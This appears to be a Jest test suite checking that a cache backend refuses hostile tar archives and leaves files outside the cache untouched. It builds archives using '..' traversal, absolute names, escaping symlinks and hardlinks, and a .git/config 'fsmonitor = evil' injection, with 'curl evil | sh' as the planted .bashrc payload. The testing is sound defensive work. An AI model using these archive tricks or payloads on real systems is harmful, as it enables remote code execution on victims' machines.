/**
 * Class 7, caches trust too much: hostile cache entries (both backends) never write outside the
 * layer's path, and nothing outside changes; a restore that refuses warns and builds cold.
 * Archives are real tar files made by Python's tarfile (names and links as an attacker writes them).
 */
import { treeSnapshot } from '../helpers/tree-snapshot.js';
import { execFileSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { jest } from '@jest/globals';
import { start, type CacheServer } from '../helpers/cache-server.js';
import { GitHubBackend } from '../../src/cache/github-backend.js';
import { LocalBackend } from '../../src/cache/local-backend.js';
import type { CacheLog } from '../../src/cache/backend.js';

type Member = { name: string; data?: string } | { name: string; dir: true } | { name: string; symlink: string } | { name: string; hardlink: string };

/** A tar archive (gzip or zstd) with exactly these members, in order. */
function hostileTar(file: string, members: Member[], compression: 'gzip' | 'zstd') {
  const py = `
import io, json, sys, tarfile
members = json.loads(sys.argv[2])
with tarfile.open(sys.argv[1], 'w', format=tarfile.GNU_FORMAT) as t:
    for m in members:
        i = tarfile.TarInfo(m['name'])
        if 'dir' in m: i.type = tarfile.DIRTYPE; i.mode = 0o755; t.addfile(i)
        elif 'symlink' in m: i.type = tarfile.SYMTYPE; i.linkname = m['symlink']; t.addfile(i)
        elif 'hardlink' in m: i.type = tarfile.LNKTYPE; i.linkname = m['hardlink']; t.addfile(i)
        else:
            b = m.get('data', 'x').encode(); i.size = len(b); i.mode = 0o644; t.addfile(i, io.BytesIO(b))
`;
  const raw = `${file}.tar`;
  execFileSync('python3', ['-c', py, raw, JSON.stringify(members)]);
  if (compression === 'gzip') execFileSync('gzip', ['-c', raw], { stdio: ['ignore', 'pipe', 'pipe'] });
  const out = compression === 'gzip' ? execFileSync('gzip', ['-c', raw]) : execFileSync('zstd', ['-q', '-c', raw]);
  writeFileSync(file, out);
  rmSync(raw);
}

/** Every file under `dir` with its content hash: the "outside" world, before and after. */

function logger() {
  const lines = { info: [] as string[], warning: [] as string[] };
  const log: CacheLog = { info: (m) => lines.info.push(m), warning: (m) => lines.warning.push(m), debug: () => undefined };
  return { log, lines };
}

let tmp: string;
let outside: string;
const CANARY = 'canary-secret-7f3a';
beforeEach(() => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'gfa-cache-hostile-'));
  outside = path.join(tmp, 'outside');
  mkdirSync(outside);
  writeFileSync(path.join(outside, 'canary'), CANARY);
  writeFileSync(path.join(outside, '.bashrc'), 'echo original\n');
});
afterEach(() => rmSync(tmp, { recursive: true, force: true }));

/** Hostile members, `rel(x)` naming x as the archive does relative to the cache path (local) or to the workspace (github). */
function hostileCases(out: () => string): [string, (prefix: string) => Member[]][] {
  return [
    [
      'an entry climbing out with ..',
      (p) => [
        { name: `${p}ok`, data: 'fine' },
        { name: `${p}../outside/.bashrc`, data: 'curl evil | sh' },
      ],
    ],
    [
      'an absolute entry name',
      (p) => [
        { name: `${p}ok`, data: 'fine' },
        { name: `${out()}/.bashrc`, data: 'curl evil | sh' },
      ],
    ],
    [
      'a symlink out, then a file through it',
      (p) => [
        { name: `${p}ln`, symlink: out() },
        { name: `${p}ln/.bashrc`, data: 'curl evil | sh' },
      ],
    ],
    ['a symlink to a secret outside (read later by go)', (p) => [{ name: `${p}secret`, symlink: `${out()}/canary` }]],
    ['a hardlink to a file outside', (p) => [{ name: `${p}hl`, hardlink: `${out()}/canary` }]],
    [
      'an entry for another path (GITHUB_WORKSPACE/.git/config)',
      (p) => [
        { name: `${p}ok`, data: 'fine' },
        { name: '.git/config', data: '[core]\n\tfsmonitor = evil' },
      ],
    ],
  ];
}

describe('local store: hostile entries are refused, nothing outside changes', () => {
  // Local entries are named relative to the cache path, so `.git/config` would land inside it: not a case here.
  const cases = hostileCases(() => outside).filter(([n]) => !n.includes('another path'));
  test.each(cases)('%s', async (_name, members) => {
    const { log, lines } = logger();
    const store = path.join(tmp, 'store');
    const be = new LocalBackend(store, log, { compression: 'gzip' });
    const target = path.join(tmp, 'cache', 'gocache');
    // A real entry first (so the layout is the real one), then its archive swapped for the hostile one.
    mkdirSync(target, { recursive: true });
    writeFileSync(path.join(target, 'x'), 'x');
    expect((await be.save([target], 'k-1')).status).toBe('saved');
    rmSync(target, { recursive: true, force: true });
    const [entry] = readdirSync(path.join(store, 'entries'));
    hostileTar(path.join(store, 'entries', entry, '0.tar.gz'), members('./'), 'gzip');
    const before = treeSnapshot(outside);
    const r = await be.restore([target], 'k-1', []);
    if (process.env.SHOW_CACHE_WARNINGS) process.stderr.write(lines.warning.join('\n') + '\n');
    expect(r.matchedKey).toBeUndefined();
    expect(lines.warning.join('\n')).toMatch(/local cache: restoring k-1 failed: .*(refusing to extract|outside|link)/);
    expect(treeSnapshot(outside)).toEqual(before);
    expect(readFileSync(path.join(outside, '.bashrc'), 'utf8')).toBe('echo original\n');
    expect(existsSync(target)).toBe(false); // nothing placed
    expect(readdirSync(path.join(tmp, 'cache'))).toEqual([]); // no staging left
  });

  test('a link already in the target folder is replaced, never written through', async () => {
    const { log } = logger();
    const store = path.join(tmp, 'store');
    const be = new LocalBackend(store, log, { compression: 'gzip' });
    const target = path.join(tmp, 'gocache');
    mkdirSync(path.join(target, 'd'), { recursive: true });
    writeFileSync(path.join(target, 'd', 'blob'), 'cached');
    expect((await be.save([target], 'k-1')).status).toBe('saved');
    rmSync(path.join(target, 'd'), { recursive: true });
    writeFileSync(path.join(target, 'other'), 'keep');
    symlinkSync(outside, path.join(target, 'd')); // planted between runs
    const before = treeSnapshot(outside);
    expect((await be.restore([target], 'k-2', ['k-'])).matchedKey).toBe('k-1'); // a prefix match is unpacked over what is there
    expect(lstatSync(path.join(target, 'd')).isDirectory()).toBe(true);
    expect(readFileSync(path.join(target, 'd', 'blob'), 'utf8')).toBe('cached');
    expect(treeSnapshot(outside)).toEqual(before);
  });
});

describe('GitHub cache: a hostile entry is refused (no tar -P), nothing outside changes', () => {
  let server: CacheServer;
  const saved = { ...process.env };
  let workspace: string;
  beforeEach(async () => {
    server = await start();
    workspace = path.join(tmp, 'work', 'repo', 'repo');
    mkdirSync(path.join(workspace, '.git'), { recursive: true });
    writeFileSync(path.join(workspace, '.git', 'config'), '[core]\n');
    Object.assign(process.env, server.env, { RUNNER_TEMP: path.join(tmp, 'runner-temp'), GITHUB_WORKSPACE: workspace });
    mkdirSync(process.env.RUNNER_TEMP!, { recursive: true });
    jest.spyOn(process.stdout, 'write').mockImplementation(() => true);
  });
  afterEach(async () => {
    jest.restoreAllMocks();
    await server.close();
    for (const k of Object.keys(process.env)) if (!(k in saved)) Reflect.deleteProperty(process.env, k);
    Object.assign(process.env, saved);
  });

  const cases = hostileCases(() => outside);
  test.each(cases)('%s', async (_name, members) => {
    const { log, lines } = logger();
    const be = new GitHubBackend(log, { restoreTimeoutMs: 20_000 });
    const target = path.join(tmp, 'home', '.cache', 'go-build');
    mkdirSync(target, { recursive: true });
    writeFileSync(path.join(target, 'x'), 'x');
    expect((await be.save([target], 'gf-build-1')).status).toBe('saved');
    rmSync(target, { recursive: true, force: true });
    // Names as @actions/cache writes them: the cache path relative to the workspace.
    const rel = `${path.relative(workspace, target)}/`;
    const zstd = server.log.length >= 0 && execFileSync('sh', ['-c', 'command -v zstd || true']).toString().trim() !== '';
    const file = path.join(tmp, 'hostile.tar');
    hostileTar(file, members(rel), zstd ? 'zstd' : 'gzip');
    server.replace('gf-build-1', readFileSync(file));
    const before = treeSnapshot(outside);
    const gitBefore = readFileSync(path.join(workspace, '.git', 'config'), 'utf8');
    const r = await be.restore([target], 'gf-build-1', []);
    if (process.env.SHOW_CACHE_WARNINGS) process.stderr.write(lines.warning.join('\n') + '\n');
    expect(r.matchedKey).toBeUndefined();
    expect(lines.warning.join('\n')).toMatch(/cache restore of gf-build-1 failed: .*(refusing to extract|outside|link)/);
    expect(treeSnapshot(outside)).toEqual(before);
    expect(readFileSync(path.join(outside, '.bashrc'), 'utf8')).toBe('echo original\n');
    expect(readFileSync(path.join(workspace, '.git', 'config'), 'utf8')).toBe(gitBefore);
    expect(existsSync(target)).toBe(false);
    expect(readdirSync(path.join(tmp, 'home', '.cache'))).toEqual([]);
  });
});
